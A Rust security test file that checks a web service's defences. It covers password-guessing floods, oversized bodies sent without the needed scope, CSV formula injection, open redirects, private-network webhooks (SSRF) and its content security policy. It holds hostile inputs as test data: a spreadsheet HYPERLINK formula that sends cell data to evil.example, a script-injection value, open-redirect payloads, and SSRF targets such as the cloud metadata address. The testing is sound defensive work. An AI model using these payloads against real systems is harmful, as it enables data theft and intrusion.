//! Holes an insider or an attacker would try, each as the requests they would send, on
//! SQLite and on PostgreSQL: guessing passwords in parallel, flooding sign-in, sending huge
//! bodies without the right, holding event streams open, formulas in CSV exports, odd
//! request ids, open redirects after sign-in, webhooks into the private network, pages
//! without a content security policy.
use crate::support;

use serde_json::{json, Value};
use std::net::IpAddr;
use std::time::Duration;
use support::{error_of, eventually, Auth, TestApp, PASSWORD};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

on_both_databases!(
    twenty_parallel_wrong_passwords_for_one_username_get_three_checks_and_the_rest_429,
    a_flood_of_random_usernames_from_one_address_is_held_up_and_never_runs_more_than_four_checks_at_once,
    a_huge_workspace_import_without_the_scope_is_refused_before_its_body_is_read,
    a_huge_metrics_batch_from_a_person_or_a_token_without_the_scope_is_refused_before_its_body_is_read,
    a_huge_plan_import_without_the_scope_is_refused_before_its_body_is_read,
    the_event_stream_needs_plans_read_and_holds_at_most_eight_streams_per_caller,
    csv_exports_turn_cells_that_look_like_formulas_into_text,
    a_long_or_odd_request_id_is_replaced_by_a_fresh_one_in_the_answer_and_the_audit_log,
    after_sign_in_only_paths_on_this_site_are_followed,
    webhooks_to_private_addresses_are_refused_unless_allowed_and_checked_again_at_delivery,
    pages_send_a_content_security_policy_whose_nonce_is_on_the_hydration_script,
);

// ---- helpers ----

async fn sign_in_from(app: &TestApp, client: &reqwest::Client, username: &str, password: &str) -> (u16, Value) {
    let r = client
        .post(app.url("/api/v1/session"))
        .json(&json!({ "username": username, "password": password }))
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

/// A client whose requests come from another loopback address.
fn client_from(addr: [u8; 4]) -> reqwest::Client {
    reqwest::Client::builder().local_address(IpAddr::from(addr)).build().unwrap()
}

/// Sends a request announcing a body far larger than any limit, sends only its first
/// 64 KiB, then waits for the answer. A server that reads the body before checking the
/// caller would wait for the rest for ever: the test then fails on its deadline.
async fn answer_before_the_body(app: &TestApp, path: &str, content_type: &str) -> (u16, Value) {
    let host = app.base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(host).await.unwrap();
    let credentials = match &app.auth {
        Auth::Bearer(t) => format!("Authorization: Bearer {t}\r\n"),
        Auth::Session { cookie, csrf } => format!("Cookie: {cookie}\r\nX-CSRF-Token: {csrf}\r\n"),
        Auth::Nobody => String::new(),
    };
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: {content_type}\r\nContent-Length: 1000000000\r\n{credentials}\r\n"
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    stream.write_all(&vec![b'a'; 64 * 1024]).await.unwrap();
    let read = async {
        let mut got = Vec::new();
        let mut buf = [0u8; 4096];
        loop {
            let n = stream.read(&mut buf).await.unwrap_or(0);
            if n == 0 {
                break;
            }
            got.extend_from_slice(&buf[..n]);
            let text = String::from_utf8_lossy(&got).to_string();
            if let Some((head, body)) = text.split_once("\r\n\r\n") {
                let len = head
                    .lines()
                    .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse::<usize>().unwrap()));
                if len.is_some_and(|len| body.len() >= len) {
                    break;
                }
            }
        }
        String::from_utf8_lossy(&got).to_string()
    };
    let text = tokio::time::timeout(Duration::from_secs(10), read)
        .await
        .expect("no answer while the body was still being sent: the server read the body before checking the caller");
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or_else(|| panic!("no answer: {text:?}"));
    let status = head.split(' ').nth(1).unwrap().parse().unwrap();
    (status, serde_json::from_str(body).unwrap_or(Value::String(body.to_string())))
}

// ---- sign-in under attack ----

async fn twenty_parallel_wrong_passwords_for_one_username_get_three_checks_and_the_rest_429(app: TestApp) {
    app.add_person("target", false).await;
    let client = reqwest::Client::new();
    let guesses = (0..20).map(|i| {
        let (app, client) = (app.clone(), client.clone());
        async move { sign_in_from(&app, &client, "target", &format!("guess-number-{i}")).await }
    });
    let answers = futures::future::join_all(guesses).await;
    let wrong = answers.iter().filter(|(s, _)| *s == 401).count();
    let refused: Vec<&Value> = answers.iter().filter(|(s, _)| *s == 429).map(|(_, b)| b).collect();
    assert_eq!(wrong, 3, "only the free attempts are checked: {answers:?}");
    assert_eq!(refused.len(), 17, "{answers:?}");
    for body in refused {
        assert_eq!(error_of(body).0, "too_many_attempts");
    }
    assert!(app.service.sign_in_limit.peak_checks() <= runway::session::PARALLEL_CHECKS);

    let (status, body) = sign_in_from(&app, &client, "target", PASSWORD).await;
    assert_eq!(status, 429, "the right password waits too: {body}");
    assert_eq!(app.count("SELECT COUNT(*) FROM sessions s JOIN users u ON u.id = s.user_id WHERE u.username = 'target'").await, 0);
    let (status, body) = sign_in_from(&app, &client, "admin", PASSWORD).await;
    assert_eq!(status, 200, "another username from the same address is not held up: {body}");
}

async fn a_flood_of_random_usernames_from_one_address_is_held_up_and_never_runs_more_than_four_checks_at_once(app: TestApp) {
    let attacker = client_from([127, 0, 0, 2]);
    let flood = (0..30).map(|i| {
        let (app, attacker) = (app.clone(), attacker.clone());
        async move { sign_in_from(&app, &attacker, &format!("nobody-{i}-{}", uuid::Uuid::new_v4().simple()), "whatever-it-is").await }
    });
    let answers = futures::future::join_all(flood).await;
    let checked = answers.iter().filter(|(s, _)| *s == 401).count();
    let refused = answers.iter().filter(|(s, b)| *s == 429 && error_of(b).0 == "too_many_attempts").count();
    assert_eq!((checked, refused), (10, 20), "the address may fail 10 times, then waits: {answers:?}");
    let peak = app.service.sign_in_limit.peak_checks();
    assert!((1..=runway::session::PARALLEL_CHECKS).contains(&peak), "{peak} password checks ran at once");

    let (status, body) = sign_in_from(&app, &attacker, "admin", PASSWORD).await;
    assert_eq!(status, 429, "the address waits, whoever it signs in as: {body}");
    let (status, body) = sign_in_from(&app, &client_from([127, 0, 0, 3]), "admin", PASSWORD).await;
    assert_eq!(status, 200, "the admin, elsewhere, is not locked out: {body}");
}

// ---- bodies and streams ----

async fn a_huge_workspace_import_without_the_scope_is_refused_before_its_body_is_read(app: TestApp) {
    let reader = app.with_token(&["workspaces:read"]).await;
    let (status, body) = answer_before_the_body(&reader, "/api/v1/workspaces/imports", "text/csv").await;
    assert_eq!((status, error_of(&body).0), (403, "missing_scope"), "{body}");
    app.add_person("member", false).await;
    let person = app.signed_in("member").await;
    let (status, body) = answer_before_the_body(&person, "/api/v1/workspaces/imports", "text/csv").await;
    assert_eq!((status, error_of(&body).0), (403, "forbidden"), "{body}");
    assert_eq!(app.count("SELECT COUNT(*) FROM workspace_imports").await, 0);
}

async fn a_huge_metrics_batch_from_a_person_or_a_token_without_the_scope_is_refused_before_its_body_is_read(app: TestApp) {
    let reader = app.with_token(&["flags:read"]).await;
    let (status, body) = answer_before_the_body(&reader, "/api/v1/metrics", "application/json").await;
    assert_eq!((status, error_of(&body).0), (403, "missing_scope"), "{body}");
    let (status, body) = answer_before_the_body(&app, "/api/v1/metrics", "application/json").await;
    assert_eq!((status, error_of(&body).0), (403, "forbidden"), "people do not send metrics: {body}");
    assert_eq!(app.count("SELECT COUNT(*) FROM metric_samples").await, 0);
}

async fn a_huge_plan_import_without_the_scope_is_refused_before_its_body_is_read(app: TestApp) {
    let reader = app.with_token(&["plans:read"]).await;
    let (status, body) = answer_before_the_body(&reader, "/api/v1/plans/import", "text/markdown").await;
    assert_eq!((status, error_of(&body).0), (403, "missing_scope"), "{body}");
    let (status, body) = answer_before_the_body(&app.anonymous(), "/api/v1/plans/import", "text/markdown").await;
    assert_eq!((status, error_of(&body).0), (401, "unauthenticated"), "{body}");
    assert_eq!(app.count("SELECT COUNT(*) FROM plans").await, 0);
}

async fn the_event_stream_needs_plans_read_and_holds_at_most_eight_streams_per_caller(app: TestApp) {
    let flags_only = app.with_token(&["flags:read"]).await;
    let (status, body) = flags_only.get("/api/v1/events").await;
    assert_eq!((status, error_of(&body).0), (403, "missing_scope"), "{body}");

    let watcher = app.with_token(&["plans:read"]).await;
    let open = async |who: &TestApp| who.request("GET", "/api/v1/events").send().await.unwrap();
    let mut streams = vec![];
    for i in 0..runway::event::STREAMS_PER_CALLER {
        let r = open(&watcher).await;
        assert_eq!(r.status(), 200, "stream {i}");
        streams.push(r);
    }
    let over = open(&watcher).await;
    assert_eq!(over.status(), 429);
    let body: Value = over.json().await.unwrap();
    assert_eq!(error_of(&body).0, "too_many_streams");
    assert_eq!(open(&app).await.status(), 200, "another caller has their own slots");

    // A stream that ends frees its slot (the server notices when it next writes to it).
    drop(streams.pop());
    let reopened = eventually("a slot to be freed", async || {
        app.service.events.publish(runway::event::Change { action: "test.ping".into(), plan_id: None, version: None, request_id: None });
        let r = open(&watcher).await;
        (r.status() == 200).then_some(r)
    })
    .await;
    drop(reopened);
}

// ---- smaller holes ----

async fn csv_exports_turn_cells_that_look_like_formulas_into_text(app: TestApp) {
    // A username may start with '-': a spreadsheet would read "-cmd" as a formula.
    let (status, body) = app
        .send("POST", "/api/v1/users", json!({ "username": "-cmd", "password": PASSWORD, "display_name": "Minus", "admin": false }))
        .await;
    assert_eq!(status, 201, "{body}");
    let r = app
        .http
        .post(app.url("/api/v1/session"))
        .header("x-request-id", "-1-1")
        .json(&json!({ "username": "-cmd", "password": PASSWORD }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let (status, csv) = app.get_text("/api/v1/audit/export.csv?action=session.sign_in&actor=-cmd").await;
    assert_eq!(status, 200, "{csv}");
    let row = csv.lines().nth(1).unwrap_or_else(|| panic!("no entry: {csv}"));
    let cells: Vec<&str> = row.split(',').collect();
    assert_eq!((cells[2], cells[6]), ("'-cmd", "'-1-1"), "{row}");

    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let (status, body) = app.send("POST", "/api/v1/workspaces", json!({ "id": "ws-evil", "name": name })).await;
    assert_eq!(status, 201, "{body}");
    let (status, csv) = app.get_text("/api/v1/workspaces/export.csv").await;
    assert_eq!(status, 200, "{csv}");
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = reader.records().map(|r| r.unwrap()[1].to_string()).collect();
    assert!(names.contains(&format!("'{name}")), "{csv}");
    assert!(!names.iter().any(|n| n.starts_with('=')), "{csv}");
}

async fn a_long_or_odd_request_id_is_replaced_by_a_fresh_one_in_the_answer_and_the_audit_log(app: TestApp) {
    for (sent, kept) in [("x".repeat(500), false), ("<script>alert(1)</script>".into(), false), ("a b".into(), false), ("deploy-42.run_7".into(), true)] {
        let r = app
            .request("POST", "/api/v1/plans")
            .header("x-request-id", &sent)
            .json(&json!({ "title": format!("Plan for {}", sent.len()) }))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 201);
        let answered = r.headers().get("x-request-id").unwrap().to_str().unwrap().to_string();
        let plan: Value = r.json().await.unwrap();
        if kept {
            assert_eq!(answered, sent);
        } else {
            assert_ne!(answered, sent);
            assert!(uuid::Uuid::parse_str(&answered).is_ok(), "a fresh id, not {answered:?}");
        }
        let (status, page) = app.get(&format!("/api/v1/audit?plan_id={}&action=plan.create", plan["id"])).await;
        assert_eq!(status, 200, "{page}");
        assert_eq!(page["items"][0]["request_id"], answered.as_str(), "{page}");
    }
}

async fn after_sign_in_only_paths_on_this_site_are_followed(app: TestApp) {
    let browser = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    for (next, goes_to) in [
        ("/plans/7?tab=risks", "/plans/7?tab=risks"),
        ("//evil.example/x", "/plans"),
        ("/\\evil.example", "/plans"),
        ("https://evil.example/", "/plans"),
        ("evil.example", "/plans"),
        ("/\t/evil.example", "/plans"),
    ] {
        let r = browser
            .post(app.url("/auth/sign-in"))
            .form(&[("username", "admin"), ("password", PASSWORD), ("next", next)])
            .send()
            .await
            .unwrap();
        assert!(r.status().is_redirection(), "{next:?}: {}", r.status());
        assert_eq!(r.headers()["location"], goes_to, "{next:?}");
    }
    let r = browser.get(app.url("/login?next=%2F%2Fevil.example")).send().await.unwrap();
    let page = r.text().await.unwrap();
    assert!(!page.contains("evil.example"), "the sign-in form carries the foreign next along");
    assert!(page.contains(r#"name="next" value="/plans""#), "{page}");
}

async fn webhooks_to_private_addresses_are_refused_unless_allowed_and_checked_again_at_delivery(app: TestApp) {
    let strict = TestApp::spawn_strict(app.store).await;
    for url in [
        "http://127.0.0.1:9/hook",
        "http://[::1]/hook",
        "http://169.254.169.254/latest/meta-data",
        "http://10.0.0.7/hook",
        "http://192.168.1.1/hook",
        "http://100.64.0.1/hook",
        "http://0.0.0.0/hook",
        "http://[fd00::1]/hook",
        "http://[fe80::1]/hook",
        "http://2130706433/hook",
        "http://[::ffff:127.0.0.1]/hook",
    ] {
        let (status, body) = strict.send("POST", "/api/v1/webhooks", json!({ "url": url })).await;
        assert_eq!(status, 422, "{url}: {body}");
        assert_eq!(error_of(&body), ("private_address", Some("url")), "{url}");
    }
    assert_eq!(strict.count("SELECT COUNT(*) FROM webhooks").await, 0);
    assert_eq!(strict.count("SELECT COUNT(*) FROM audit_log WHERE action = 'webhook.create'").await, 0);

    // A name is checked when the delivery connects: "localhost" resolves to loopback.
    let hits: std::sync::Arc<std::sync::atomic::AtomicUsize> = Default::default();
    let counted = hits.clone();
    let receiver = axum::Router::new().fallback(move || {
        counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        async { "ok" }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move { axum::serve(listener, receiver).await.unwrap() });
    let (status, body) = strict.send("POST", "/api/v1/webhooks", json!({ "url": format!("http://localhost:{port}/hook") })).await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = strict.send("POST", "/api/v1/flags", json!({ "key": "checkout" })).await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = strict.send("POST", "/api/v1/flags/checkout/kill", json!({})).await;
    assert_eq!(status, 200, "{body}");
    let refused = eventually("the delivery to be refused", async || {
        let (_, list) = strict.get("/api/v1/webhooks/deliveries").await;
        list.as_array()?.iter().find(|d| d["last_error"].as_str().is_some_and(|e| e.contains("--allow-private-webhooks"))).cloned()
    })
    .await;
    assert_ne!(refused["status"], "delivered", "{refused}");
    assert!(refused["last_error"].as_str().unwrap().contains("resolves to"), "{refused}");
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0, "no request reached the private address");

    // Allowed (as the other tests run): the same kind of address is accepted.
    let (status, body) = app.send("POST", "/api/v1/webhooks", json!({ "url": format!("http://127.0.0.1:{port}/hook") })).await;
    assert_eq!(status, 201, "{body}");
}

async fn pages_send_a_content_security_policy_whose_nonce_is_on_the_hydration_script(app: TestApp) {
    let nonce_of = async || {
        let r = app.request("GET", "/plans").send().await.unwrap();
        assert_eq!(r.status(), 200);
        let h = r.headers().clone();
        assert_eq!(h["x-content-type-options"], "nosniff");
        assert_eq!(h["referrer-policy"], "same-origin");
        let csp = h["content-security-policy"].to_str().unwrap().to_string();
        for part in ["default-src 'self'", "'wasm-unsafe-eval'", "frame-ancestors 'none'", "base-uri 'self'", "form-action 'self'", "img-src 'self' data:"] {
            assert!(csp.contains(part), "{part} missing from {csp}");
        }
        let nonce = csp.split("'nonce-").nth(1).and_then(|r| r.split('\'').next()).unwrap_or_else(|| panic!("no nonce: {csp}")).to_string();
        let page = r.text().await.unwrap();
        assert!(page.contains(&format!(r#"<script type="module" nonce="{nonce}">"#)), "the hydration script lacks the nonce {nonce}");
        assert!(!page.contains("<script>"), "an inline script without the nonce");
        nonce
    };
    assert_ne!(nonce_of().await, nonce_of().await, "a fresh nonce per page");

    let r = app.request("GET", "/api/v1/plans").send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    assert!(r.headers()["content-security-policy"].to_str().unwrap().contains("frame-ancestors 'none'"));
}
